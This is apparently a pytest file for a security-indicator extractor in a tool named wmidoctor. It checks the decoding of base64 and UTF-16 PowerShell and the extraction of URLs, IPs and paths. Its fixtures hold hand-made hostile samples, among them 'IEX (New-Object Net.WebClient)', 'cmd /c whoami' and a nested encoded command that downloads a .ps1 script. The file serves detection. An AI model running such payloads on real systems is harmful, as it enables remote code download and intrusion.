"""What a payload's indicators are, read exactly: encoded PowerShell (UTF-16 for -EncodedCommand, UTF-8 or UTF-16
for FromBase64String), unpadded base64, refusal of what is not text, and the limits. Hand-made payloads."""

from __future__ import annotations

import base64

import pytest

from wmidoctor.checks.security_indicators import MAX_EACH, _decode, extract, summary


def b64(text: str, encoding: str) -> str:
    return base64.b64encode(text.encode(encoding)).decode()


@pytest.mark.parametrize(
    ("blob", "utf16", "decoded"),
    [
        (b64("IEX (New-Object Net.WebClient)", "utf-16-le"), True, "IEX (New-Object Net.WebClient)"),
        (b64("calc.exe", "utf-8"), False, "calc.exe"),
        (b64("calc.exe", "utf-16-le"), False, "calc.exe"),  # a zero second byte: UTF-16 though not asked for
        (b64("cmd /c whoami", "utf-8").rstrip("="), False, "cmd /c whoami"),  # padding restored
        (b64("abcd", "utf-8").rstrip("="), False, "abcd"),
        ("not base64!", False, ""),
        ("QUJD*", False, ""),
        (base64.b64encode(bytes(range(1, 40))).decode(), False, ""),  # control bytes: not text
        (base64.b64encode(b"ab\x01").decode(), False, ""),  # 2 of 3 printable: under nine in ten
        (base64.b64encode(b"abcdefghi\x01").decode(), False, ""),  # exactly nine in ten: not above it
        (base64.b64encode(b"abcdefghij\x01").decode(), False, "abcdefghij\x01"),  # ten in eleven
        (base64.b64encode(b"line one\r\n\tline two").decode(), False, "line one\r\n\tline two"),
        ("", False, ""),
    ],
)
def test_decode(blob, utf16, decoded):
    assert _decode(blob, utf16) == decoded


def test_encoded_command_inside_an_encoded_command_is_read_to_the_url():
    inner = b64("Invoke-WebRequest http://203.0.113.9/a.ps1 -OutFile C:\\Users\\Public\\a.ps1", "utf-16-le")
    outer = b64(f"powershell -enc {inner}", "utf-16-le")
    found = extract(f"powershell.exe -NoP -EncodedCommand {outer}")
    assert found["urls"] == ["http://203.0.113.9/a.ps1"]
    assert found["ips"] == ["203.0.113.9"]
    assert "C:\\Users\\Public\\a.ps1" in found["paths"]
    assert summary(found) == (
        "files: powershell.exe; 2 decoded Base64 payloads; urls: http://203.0.113.9/a.ps1; ips: 203.0.113.9; "
        "paths: C:\\Users\\Public\\a.ps1"
    )


def test_each_kind_keeps_at_most_its_limit_and_no_duplicates():
    text = " ".join(f"http://198.51.100.{i}/x" for i in range(1, MAX_EACH + 20)) + " http://198.51.100.1/x"
    found = extract(text)
    assert len(found["urls"]) == MAX_EACH and len(set(found["urls"])) == MAX_EACH
    assert "0.0.0.0" not in extract("listen 0.0.0.0 and 198.51.100.3").get("ips", [])
